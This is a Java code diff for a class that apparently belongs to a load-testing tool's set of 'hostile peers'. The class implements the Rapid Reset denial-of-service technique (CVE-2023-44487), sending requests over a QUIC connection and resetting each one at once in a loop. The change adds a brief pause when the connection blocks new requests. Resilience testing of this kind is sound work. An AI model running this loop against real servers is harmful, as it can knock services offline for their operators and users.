@@ -2,6 +2,7 @@
 package org.sbamock.loadgen.attack.peer;
 
 import java.io.IOException;
+import java.time.Duration;
 import java.util.EnumSet;
 import java.util.Set;
 import org.sbamock.http.HttpProtocol;
@@ -16,6 +17,7 @@ import org.sbamock.loadgen.attack.wire.RequestHead;
 /** A peer that cancels each request at once (CVE-2023-44487). */
 final class RapidReset implements HostilePeer {
   private static final int BATCH = 100;
+  private static final Duration BLOCKED = Duration.ofMillis(1);
 
   @Override
   public String id() {
@@ -33,12 +35,16 @@ final class RapidReset implements HostilePeer {
   }
 
   @Override
-  public void attack(AttackSession session) throws IOException {
+  public void attack(AttackSession session) throws IOException, InterruptedException {
     RequestHead head = RequestHead.get(session.target(), FileSize.MEDIUM.path());
     if (session.target().protocol().quic()) {
       try (RawQuicConnection connection = session.connectQuic(QuicWindows.LARGE)) {
         while (!session.isOver()) {
-          connection.reset(connection.send(head, true));
+          if (connection.allowsRequest()) {
+            connection.reset(connection.send(head, true));
+          } else {
+            session.pause(BLOCKED);
+          }
         }
       }
       return;
